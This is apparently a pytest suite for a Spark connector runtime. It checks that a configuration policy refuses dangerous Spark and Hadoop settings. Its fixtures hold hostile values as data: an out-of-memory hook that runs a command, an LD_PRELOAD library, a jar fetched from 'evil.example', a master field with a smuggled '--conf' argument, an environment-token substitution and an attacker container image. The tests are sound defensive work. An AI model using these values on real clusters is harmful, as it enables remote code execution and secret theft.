"""A pool's conf stored before the policy never reaches the JVM; the runtime's safety settings win."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest
from sqlalchemy import text

from connect_core.runtime.cluster.rebalancer import place
from connect_core.runtime.context import Runtime
from connect_core.runtime.execution.submit import spark_submit_command
from connect_core.runtime.execution.warm_pool import start_server
from connect_core.runtime.spark.conf import spark_conf
from connect_core.sdk.errors import ConfigError
from tests.conftest import file_pair

STORED = {  # as a pool registered before the policy may hold
    "spark.sql.runSQLOnFiles": "true",
    "spark.sql.variable.substitute": "true",
    "spark.driver.extraJavaOptions": "-XX:OnOutOfMemoryError=touch /tmp/pwned-oom",
    "spark.executorEnv.LD_PRELOAD": "/tmp/pwned.so",
    "spark.jars": "http://evil.example/pwned.jar",
    "spark.executor.memory": "2g",
}


def _store_conf(runtime: Runtime, pool: str, conf: dict[str, str], master: str | None = None) -> None:
    import json

    with runtime.engine.begin() as conn:
        conn.execute(
            text(
                "UPDATE connect.spark_pools SET conf = CAST(:c AS jsonb), master = coalesce(:m, master) WHERE name = :n"
            ),
            {"c": json.dumps(conf), "m": master, "n": pool},
        )


def test_a_stored_refused_conf_is_dropped_at_launch_and_safety_settings_win(
    runtime: Runtime, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    file_pair(runtime, tmp_path)
    (pool,) = {p.name for p in runtime.pools.list(30)}
    _store_conf(runtime, pool, STORED)
    with caplog.at_level(logging.WARNING):
        placement = place(runtime.engine, runtime.settings, "fileSourceConnector", 0)
    assert placement.conf == {"spark.executor.memory": "2g"}
    assert "spark.driver.extraJavaOptions" in caplog.text and "pwned" not in caplog.text

    # whatever reaches the builder (a connector's or an operator's conf too), the argv holds the safe values
    argv = spark_submit_command(
        runtime.settings,
        "fileSourceConnector",
        0,
        master="local[1]",
        conf=STORED | {"spark.jars": "/usr/share/java/x.jar"},
    )
    joined = "\n".join(argv)
    assert "spark.sql.runSQLOnFiles=false" in argv and "spark.sql.runSQLOnFiles=true" not in joined
    assert "spark.sql.variable.substitute=false" in argv and "spark.sql.variable.substitute=true" not in joined
    assert "pwned" not in joined and "spark.executor.memory=2g" in argv
    assert "spark.jars=/usr/share/java/x.jar" in argv
    assert spark_conf({"spark.sql.session.timeZone": "Asia/Tokyo"})["spark.sql.session.timeZone"] == "UTC"


def test_a_connector_jar_spark_would_download_is_refused() -> None:
    for jars in ("http://evil.example/x.jar", "hdfs:///x.jar", "relative.jar", "/tmp/x.so", "/a.jar,ivy://x"):
        with pytest.raises(ConfigError, match=r"spark\.jars"):
            spark_conf({"spark.jars": jars})


def test_a_stored_master_that_is_an_argument_fails_the_run(runtime: Runtime, tmp_path: Path) -> None:
    file_pair(runtime, tmp_path)
    (pool,) = {p.name for p in runtime.pools.list(30)}
    _store_conf(runtime, pool, {}, master="local[*] --conf spark.jars=/x.jar")
    with pytest.raises(ConfigError, match="master"):
        place(runtime.engine, runtime.settings, "fileSourceConnector", 0)
    with pytest.raises(ConfigError, match="master"):
        spark_submit_command(runtime.settings, "c", 0, master="-v")


def test_a_warm_pool_server_refuses_a_refused_conf_before_it_starts(runtime: Runtime) -> None:
    with pytest.raises(ConfigError, match=r"spark\.driver\.extraJavaOptions"):
        start_server(runtime.settings, "warm", conf={"spark.driver.extraJavaOptions": "-XX:OnOutOfMemoryError=x"})
    with pytest.raises(ConfigError, match="master"):
        start_server(runtime.settings, "warm", spark_master="local[*] --conf x=y")


@pytest.mark.parametrize(
    "key",
    [
        "spark.hadoop.fs.s3a.audit.service.classname",
        "spark.hadoop.fs.s3a.bucket.x.audit.request.handlers",
        "spark.hadoop.fs.s3a.buffer.dir",
        "spark.hadoop.fs.s3a.committer.staging.tmp.path",
    ],
)
def test_s3a_keys_that_load_classes_or_name_local_paths_are_refused_whatever_is_allowed(key: str) -> None:
    from connect_core.runtime.spark.conf_policy import forbidden_reason

    assert forbidden_reason(key) is not None
    assert forbidden_reason("spark.hadoop.fs.s3a.access.key") is None  # credentials of the pool's own store


def test_a_value_spark_or_hadoop_would_fill_with_variables_and_a_container_image_are_refused() -> None:
    from connect_core.runtime.spark.conf_policy import SparkConfPolicy

    refused = SparkConfPolicy().refused(
        {
            "spark.hadoop.fs.s3a.endpoint": "http://127.0.0.1:9",
            "spark.hadoop.fs.s3a.user.agent.prefix": "${env.CONNECT_REST_TOKEN}",
            "spark.kubernetes.container.image": "attacker/image:latest",
        }
    )
    assert set(refused) == {"spark.hadoop.fs.s3a.user.agent.prefix", "spark.kubernetes.container.image"}, refused
